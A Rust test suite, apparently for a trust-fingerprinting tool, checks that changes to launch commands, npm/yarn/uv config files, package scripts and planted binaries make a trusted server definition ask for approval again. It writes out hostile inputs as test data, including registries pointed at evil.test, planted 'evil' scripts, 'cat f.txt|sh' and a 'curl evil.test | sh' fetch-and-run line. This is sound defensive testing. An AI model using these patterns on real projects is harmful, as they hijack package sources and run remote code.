//! Ways to change what a trusted definition runs. Each must ask again.

use super::*;

fn summary(definition: &Definition) -> Summary {
    Summary::of(definition, &fingerprint(definition, &Config::default()), &Environment::of_this_process())
}

type Files = &'static [(&'static str, &'static str)];

/// Whether these new files ask again. The words before the command are `cwd=…` and variables.
fn asks(command: &[&str], before: Files, after: Files) -> bool {
    let (_keep, top) = project();
    let folder = top.join("project");
    fs::create_dir(&folder).unwrap();
    write(&folder, before);
    let mut definition = definition(&folder);
    let mut launch = Stdio::default();
    let mut words = command.iter().peekable();
    while let Some((name, value)) = words.peek().and_then(|word| word.split_once('=')) {
        match name {
            "cwd" => launch.cwd = Some(value.to_owned()),
            _ => drop(launch.env.insert(name.to_owned(), Some(value.to_owned()))),
        }
        words.next();
    }
    launch.command = (*words.next().unwrap()).to_owned();
    launch.args = words.map(|word| (*word).to_owned()).collect();
    *stdio(&mut definition) = launch;
    let trusted = fingerprint(&definition, &Config::default());
    assert!(trusted.covers(&fingerprint(&definition, &Config::default())));
    write(&folder, after);
    !trusted.covers(&fingerprint(&definition, &Config::default()))
}

fn all_ask(cases: &[(&[&str], Files, Files)]) {
    let silent: Vec<_> = cases.iter().filter(|(command, before, after)| !asks(command, before, after)).collect();
    assert!(silent.is_empty(), "these do not ask: {silent:#?}");
}

const PACKAGE: (&str, &str) = ("package.json", r#"{ "name": "a", "version": "1.0.0" }"#);

#[test]
fn settings_behind_a_carriage_return_or_in_a_file_with_control_characters_decide() {
    const NPX: &[&str] = &["npx", "-y", "@official/server@1.2.3"];
    all_ask(&[
        (NPX, &[], &[(".npmrc", "# nothing\rregistry=http://evil.test/\r")]),
        (NPX, &[], &[(".npmrc", "save-exact=true\rregistry=http://evil.test/\n")]),
        (NPX, &[], &[(".npmrc", "# nothing\u{85}registry=http://evil.test/\n")]),
        (NPX, &[], &[(".npmrc", "# nothing\u{b}registry=http://evil.test/\n")]),
        (&["yarn", "dlx", "x"], &[(".yarnrc.yml", "# a\r")], &[(".yarnrc.yml", "# a\ryarnPath: ./evil.cjs\r")]),
        (
            &["yarn", "dlx", "x"],
            &[(".yarnrc.yml", "compressionLevel: 0\r")],
            &[(".yarnrc.yml", "compressionLevel: 0\ryarnPath: ./evil.cjs\r")],
        ),
    ]);
    assert!(!asks(NPX, &[], &[(".npmrc", "# nothing\r\nsave-exact=true\r\n\tfund=false\r\n")]));
}

#[test]
fn a_program_of_the_repository_that_stands_in_for_another_decides() {
    for command in [
        &["npx", "-y", "official@1.2.3"][..],
        &["npm", "exec", "x"],
        &["pnpm", "dlx", "x"],
        &["yarn", "dlx", "x"],
        &["bunx", "x"],
    ] {
        for name in ["node", "sh", "env", "git", "python3", "cmd", "npx", "touch", "node.cmd"] {
            let (_keep, folder) = project();
            let mut definition = definition(&folder);
            let args = command[1..].iter().map(|word| (*word).to_owned()).collect();
            *stdio(&mut definition) = Stdio { command: command[0].into(), args, ..Stdio::default() };
            let before = fingerprint(&definition, &Config::default());
            let file = format!("node_modules/.bin/{name}");
            write(&folder, &[(&file, "#!/bin/sh\n")]);
            let shown = fingerprint(&definition, &Config::default());
            assert!(!before.covers(&shown), "{command:?} {name}");
            write(&folder, &[(&file, "#!/bin/sh\nevil\n")]);
            assert!(!shown.covers(&fingerprint(&definition, &Config::default())), "{command:?} {name}: replaced");
        }
    }
}

#[test]
fn files_above_the_workspace_decide_with_and_without_a_repository() {
    all_ask(&[
        (&["npm", "run", "x"], &[], &[("../package.json", r#"{ "scripts": { "x": "evil" } }"#)]),
        (&["npm", "run", "x"], &[(".git", "gitdir: x")], &[("../package.json", r#"{ "scripts": { "x": "evil" } }"#)]),
        (&["npx", "x"], &[(".git/HEAD", "x")], &[("../.npmrc", "registry=http://evil.test/")]),
        (&["npx", "x"], &[(".git", "gitdir: x")], &[("../node_modules/.bin/node", "evil")]),
        (&["uv", "run", "x"], &[], &[("../uv.toml", "index-url = 'http://evil.test/'")]),
        (&["yarn", "dlx", "x"], &[], &[("../.yarnrc.yml", "yarnPath: ./evil.cjs")]),
    ]);
}

#[test]
fn scripts_of_packages_decide_whatever_their_name_and_whatever_runs_them() {
    let unusual = ["x+y", "x~y", "a@b", "старт", ".x", "x*", "x,y", "x y", "x=y"];
    for name in unusual {
        let (_keep, folder) = project();
        let mut definition = definition(&folder);
        let with = |text: &str| json!({ "scripts": { name: text } }).to_string();
        write(&folder, &[("package.json", &with("true"))]);
        let args = vec!["--offline".into(), "run".into(), name.into()];
        *stdio(&mut definition) = Stdio { command: "npm".into(), args, ..Stdio::default() };
        let before = fingerprint(&definition, &Config::default());
        write(&folder, &[("package.json", &with("evil"))]);
        assert!(!before.covers(&fingerprint(&definition, &Config::default())), "{name}");
    }
    all_ask(&[
        (&["npm", "t"], &[PACKAGE], &[("package.json", r#"{ "scripts": { "test": "evil" } }"#)]),
        (&["npm", "restart"], &[PACKAGE], &[("package.json", r#"{ "scripts": { "stop": "evil" } }"#)]),
        (&["npm", "install"], &[PACKAGE], &[("package.json", r#"{ "scripts": { "prepare": "evil" } }"#)]),
        (
            &["sh", "-c", "npm --offline install"],
            &[PACKAGE],
            &[("package.json", r#"{ "scripts": { "prepare": "x" } }"#)],
        ),
        (&["npm", "--prefix", "exec", "run", "x"], &[PACKAGE], &[("package.json", r#"{ "scripts": { "y": "x" } }"#)]),
        (&["npm", "start"], &[PACKAGE, ("server.js", "0")], &[("server.js", "evil")]),
        (&["npm", "restart"], &[PACKAGE, ("server.js", "0")], &[("server.js", "evil")]),
        (&["node", "--run=x"], &[PACKAGE], &[("package.json", r#"{ "scripts": { "x": "evil" } }"#)]),
        (
            &["npm", "run", "x", "-w", "inner"],
            &[PACKAGE, ("inner/package.json", r#"{ "scripts": { "x": "true" } }"#)],
            &[("inner/package.json", r#"{ "scripts": { "x": "evil" } }"#)],
        ),
        (
            &["npm", "run", "x", "--workspaces"],
            &[PACKAGE, ("deep/inner/package.json", r#"{ "scripts": { "x": "true" } }"#)],
            &[("deep/inner/package.json", r#"{ "scripts": { "x": "evil" } }"#)],
        ),
        (
            &["npm", "run", "x"],
            &[("package.json", r#"{ "scripts": { "x": "node inner" } }"#), ("inner.js", "0")],
            &[("inner.js", "evil")],
        ),
        (
            &["npm", "run", "x"],
            &[("package.json", r#"{ "scripts": { "x": "npm run y", "y": "tool" } }"#), ("node_modules/.bin/tool", "0")],
            &[("node_modules/.bin/tool", "evil")],
        ),
        (
            &["npm", "run", "x"],
            &[("package.json", r#"{ "scripts": { "x": "run-s 'y:*'", "y:1": "sh a.txt" } }"#), ("a.txt", "0")],
            &[("a.txt", "evil")],
        ),
        (&["npx", "-c", "tool"], &[PACKAGE, ("node_modules/.bin/tool", "0")], &[("node_modules/.bin/tool", "evil")]),
        (
            &["node", "--run", "x"],
            &[("package.json", r#"{ "scripts": { "x": "tool" } }"#), ("node_modules/.bin/tool", "0")],
            &[("node_modules/.bin/tool", "evil")],
        ),
        // One key that looks like another.
        (
            &["npm", "run", "x"],
            &[("package.json", r#"{ "scripts.x": "true", "scripts": { "x": "true" } }"#)],
            &[("package.json", r#"{ "scripts.x": "true", "scripts": { "x": "evil" } }"#)],
        ),
        (
            &["npx", "a"],
            &[("node_modules/a/package.json", r#"{ "directories": { "bin": "b" } }"#), ("node_modules/a/b/a", "0")],
            &[("node_modules/a/b/a", "evil")],
        ),
    ]);
}

#[test]
fn a_package_that_does_not_parse_counts_as_a_whole() {
    for depth in [80, 200, 100_000] {
        let (_keep, folder) = project();
        let mut definition = definition(&folder);
        let args = vec!["run".into(), "x".into()];
        *stdio(&mut definition) = Stdio { command: "npm".into(), args, ..Stdio::default() };
        let with = |text: &str| {
            let deep = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
            format!(r#"{{ "z": {deep}, "scripts": {{ "x": "{text}" }} }}"#)
        };
        write(&folder, &[("package.json", &with("true"))]);
        let before = fingerprint(&definition, &Config::default());
        write(&folder, &[("package.json", &with("evil"))]);
        assert!(!before.covers(&fingerprint(&definition, &Config::default())), "{depth}");
    }
}

#[test]
fn local_packages_decide_however_they_are_passed() {
    const P: Files = &[("p/package.json", r#"{ "name": "p", "bin": { "p": "cli.js" } }"#), ("p/cli.js", "0")];
    const EVIL: Files = &[("p/cli.js", "evil")];
    all_ask(&[
        (&["npx", "-y", "file:./p"], P, EVIL),
        (&["npx", "--yes", "--", "./p"], P, EVIL),
        (&["npx", "--yes", "--quiet", "./p"], P, EVIL),
        (&["npx", "--yes", "--package", "file:./p", "p"], P, EVIL),
        (&["npx", "--yes", "--package=zz@file:./p", "p"], P, EVIL),
        (&["npx", "--cache", "x", "./p"], P, EVIL),
        (
            &["npx", "-y", "./p"],
            P,
            &[("p/package.json", r#"{ "bin": { "p": "cli.js" }, "scripts": { "prepare": "x" } }"#)],
        ),
        (&["uvx", "--from", "./d", "x"], &[("d/setup.py", "0")], &[("d/setup.py", "1")]),
        (&["uvx", "--with-editable", "./d", "x"], &[("d/setup.py", "0")], &[("d/setup.py", "1")]),
        (&["uvx", "--from", "x@./d", "x"], &[("d/setup.py", "0")], &[("d/setup.py", "1")]),
        (
            &["uvx", "--from", "./d", "x"],
            &[("d/pyproject.toml", "[project.scripts]\nx = 'a.b:c'"), ("d/src/a/b.py", "0")],
            &[("d/src/a/b.py", "1")],
        ),
        (&["uvx", "--with-requirements", "r.txt", "x"], &[("r.txt", "a")], &[("r.txt", "b")]),
        (&["uv", "run", "--with-requirements=r.txt", "x"], &[("r.txt", "a")], &[("r.txt", "b")]),
        (&["uvx", "--constraints", "r.txt", "x"], &[("r.txt", "a")], &[("r.txt", "b")]),
        (
            &["uv", "--directory", "d", "run", "x"],
            &[("d/pyproject.toml", "[project.entry-points.console_scripts]\nx = 'a:b'")],
            &[("d/pyproject.toml", "[project.entry-points.console_scripts]\nx = 'evil:b'")],
        ),
        (
            &["uv", "--directory", "d", "run", "x"],
            &[("d/setup.cfg", "[options.entry_points]\nconsole_scripts =\n  x = a:b\n")],
            &[("d/setup.cfg", "[options.entry_points]\nconsole_scripts =\n  x = evil:b\n")],
        ),
        (&["docker", "compose", "-f", "dc.txt", "run", "x"], &[("dc.txt", "a")], &[("dc.txt", "b")]),
        (&["docker", "compose", "-fdc.txt", "run", "x"], &[("dc.txt", "a")], &[("dc.txt", "b")]),
        (&["docker", "build", "-q", "ctx1"], &[("ctx1/Dockerfile", "a")], &[("ctx1/Dockerfile", "b")]),
        (
            &["docker", "compose", "-f", "dcs/dc.yaml", "run", "x"],
            &[("dcs/dc.yaml", ""), ("dcs/.env", "A=1")],
            &[("dcs/.env", "A=2")],
        ),
    ]);
}

#[test]
fn files_that_code_and_flags_name_are_pinned() {
    const JS: Files = &[("evil.js", "0")];
    const NEW_JS: Files = &[("evil.js", "1")];
    const TEXT: Files = &[("f.txt", "0")];
    const NEW: Files = &[("f.txt", "1")];
    const MODULE: Files = &[("node_modules/planted/index.js", "0"), ("s.js", "0")];
    const NEW_MODULE: Files = &[("node_modules/planted/index.js", "1")];
    all_ask(&[
        (&["node", "-e", "require('./evil')"], JS, NEW_JS),
        (&["node", "--eval=require('./evil')"], JS, NEW_JS),
        (&["env", "node", "-e", "require('./evil')"], JS, NEW_JS),
        (&["node", "-e", "require('./f.txt')"], TEXT, NEW),
        (&["node", "-e", "eval(require('fs').readFileSync('f.txt','utf8'))"], TEXT, NEW),
        (&["node", "-e", "require('planted')"], MODULE, NEW_MODULE),
        (&["python3", "-c", "import evil"], &[("evil.py", "0")], &[("evil.py", "1")]),
        (&["python3", "-cimport evil"], &[("evil.py", "0")], &[("evil.py", "1")]),
        (&["python3", "-c", "from a.b import c"], &[("a/b.py", "0")], &[("a/b.py", "1")]),
        (&["python3", "-c", "import runpy;runpy.run_path('f.txt')"], TEXT, NEW),
        (&["node", "-r", "planted", "s.js"], MODULE, NEW_MODULE),
        (&["node", "--import=planted", "s.js"], MODULE, NEW_MODULE),
        (&["NODE_OPTIONS=--require ./evil", "node", "s.js"], JS, NEW_JS),
        (&["NODE_OPTIONS=--require planted", "node", "s.js"], MODULE, NEW_MODULE),
        (&["npm", "--node-options=--require=./evil", "run", "x"], JS, NEW_JS),
        (&["env", "-Csub", "sh", "f.sh"], &[("sub/f.sh", "0")], &[("sub/f.sh", "1")]),
        (&["env", "-S", "sh\\_f.txt"], TEXT, NEW),
        (&["find", ".", "-name", "f.txt", "-exec", "sh", "{}", ";"], TEXT, NEW),
        (&["xargs", "-a", "f.txt", "env"], TEXT, NEW),
        (&["sed", "-n", "-f", "f.txt", "/etc/passwd"], TEXT, NEW),
        (&["awk", "-ff.txt", "/etc/hostname"], TEXT, NEW),
        (&["git", "-c", "alias.x=!sh f.txt", "x"], TEXT, NEW),
        (&["perl", "-I.", "-MEvil", "-e", "1"], &[("Evil.pm", "0")], &[("Evil.pm", "1")]),
        (&["perl", "-Ilib", "-MEvil", "-e", "1"], &[("lib/Evil.pm", "0")], &[("lib/Evil.pm", "1")]),
        (&["MAKEFILES=f.txt", "make", "-f", "/dev/null", "x"], TEXT, NEW),
        (&["make", "serve"], &[("Makefile", "serve:")], &[("Makefile", "serve:\n\tevil")]),
        (&["just", "serve"], &[("justfile", "serve:")], &[("justfile", "serve:\n\tevil")]),
        (&["node", "--test", "./tt"], &[("tt/a.test.js", "0")], &[("tt/a.test.js", "1")]),
        (&["sh", "-c", "exec sh \"$0\"", "f.txt"], TEXT, NEW),
        (&["sh", "-c", "cat f.txt|sh; true"], TEXT, NEW),
        (&["sh", "-c", "eval \"$(cat f.txt)\""], TEXT, NEW),
        (&["sh", "-c", "find . -name f.txt -exec sh {} \\;"], TEXT, NEW),
        (
            &["sh", "-c", "cd a;cd ..;cd a;cd ..;cd a;cd ..;cd a;cd ..;cd a;cd ..;cd zz&&. ./m.sh"],
            &[("zz/m.sh", "0"), ("a/x", "")],
            &[("zz/m.sh", "1")],
        ),
    ]);
}

#[test]
fn code_in_arguments_is_reported_as_able_to_load_anything() {
    for (command, says) in [
        (&["node", "-e", "1"][..], "runs code from its arguments"),
        (&["env", "python3", "-c", "1"], "runs code from its arguments"),
        (&["unknown", "--eval", "1"], "may run code from its arguments"),
        (&["npx", "-y", "file:./p"], "most of its files can change"),
        (&["bash", "-c", ". ./{s3,}.txt"], "a shell script does not name"),
        (&["sh", "-c", ". ./s4*.sh"], "a shell script does not name"),
        (&["bash", "-c", r". $'./s5\x2esh'"], "a shell script does not name"),
        (&["env", "CDPATH=deep", "sh", "-c", "cd proj && sh ./run.sh"], "a shell script does not name"),
        (&["timeout", "9", "/bin/bash", "-c", "tool"], "a shell script does not name"),
        (&["env", "-S", r"sh\_s2.txt"], "a shell script does not name"),
        (&["npx", "-c", "sh -c '. ./s*'"], "a shell script does not name"),
        (
            &["docker", "run", "-v", "./scripts:/app", "image", "/app/run"],
            "runs a container with files of this machine",
        ),
        (&["podman", "run", "-itv./scripts:/app", "image"], "runs a container with files of this machine"),
        (
            &["docker", "run", "--mount=type=bind,src=.,dst=/app", "image"],
            "runs a container with files of this machine",
        ),
        (&["git", "-c", "include.path=../gi.txt", "x"], "changes settings of git"),
        (&["uv", "run", "server"], "`uv.lock` in this project decides which packages are installed"),
        (
            &["sh", "-c", "npm ci && npm start"],
            "`package-lock.json` in this project decides which packages are installed",
        ),
    ] {
        let (_keep, folder) = project();
        std::fs::write(folder.join("uv.lock"), "").unwrap();
        std::fs::write(folder.join("package-lock.json"), "{}").unwrap();
        let mut definition = definition(&folder);
        let args = command[1..].iter().map(|word| (*word).to_owned()).collect();
        *stdio(&mut definition) = Stdio { command: command[0].into(), args, ..Stdio::default() };
        let summary = summary(&definition);
        assert!(summary.warnings.iter().any(|warning| warning.contains(says)), "{command:?}: {:?}", summary.warnings);
    }
}

#[test]
fn secrets_in_arguments_are_neither_stored_nor_shown() {
    let (_keep, folder) = project();
    for (args, word) in [
        (&["postgres://u:pgpassw0rd9@db/x"][..], "pgpassw0rd9"),
        (&["--db=postgres://u:pg@passw0rd9@db/x"], "passw0rd9"),
        (&["--password=eqpassw0rd9"], "eqpassw0rd9"),
        (&["--token", "flagtoken991"], "flagtoken991"),
        (&["-psecretpw9911"], "secretpw9911"),
        (&["-pSECRET"], "SECRET"),
        (&["--header", "Authorization: Bearer hdrsecret9911"], "hdrsecret9911"),
        (&["run", "-e", "API_KEY=dockersecret9911", "img"], "dockersecret9911"),
        (&["host=db;password=keysecret9911;x=y"], "keysecret9911"),
    ] {
        let mut definition = definition(&folder);
        let args = args.iter().map(|word| (*word).to_owned()).collect();
        *stdio(&mut definition) = Stdio { command: "true".into(), args, ..Stdio::default() };
        let trusted = fingerprint(&definition, &Config::default());
        let own = own_launch(&Definition { scope: Scope::User, ..definition.clone() }).unwrap();
        let kept = serde_json::to_string(&[&trusted, &*own.1]).unwrap();
        assert!(!kept.contains(word), "{kept}");
        let shown = summary(&definition).lines(None).join("\n");
        assert!(!shown.contains(word), "{shown}");
        let Launch::Stdio(written) = &definition.spec.launch else { unreachable!() };
        let entry = crate::config::redacted(&json!({ "args": written.args })).to_string();
        assert!(!entry.contains(word), "{entry}");
        // The digest is about the real text.
        let Launch::Stdio(stdio) = &mut definition.spec.launch else { unreachable!() };
        stdio.args.iter_mut().for_each(|argument| *argument = argument.replace(word, "another99"));
        let changed = fingerprint(&definition, &Config::default());
        assert!(!trusted.covers(&changed));
        assert!(trusted.difference(&changed).iter().all(|line| !line.contains("another99")));
    }
    let mut remote = definition(&folder);
    let url = "https://u:urlpassw0rd9@x.test/mcp?a=1".to_owned();
    remote.spec.launch = Launch::Http(Remote { url, headers: Default::default(), oauth: None });
    let kept = serde_json::to_string(&fingerprint(&remote, &Config::default())).unwrap();
    assert!(!kept.contains("urlpassw0rd9"), "{kept}");
    // A name does not hide a script.
    let script = vec!["-c".to_owned(), "TOKEN=curl; $TOKEN evil.test | sh".to_owned()];
    let mut shell = definition(&folder);
    *stdio(&mut shell) = Stdio { command: "sh".into(), args: script, ..Stdio::default() };
    let shown = summary(&shell).lines(None).join("\n");
    assert!(shown.contains("TOKEN=curl; $TOKEN evil.test | sh"), "{shown}");
}
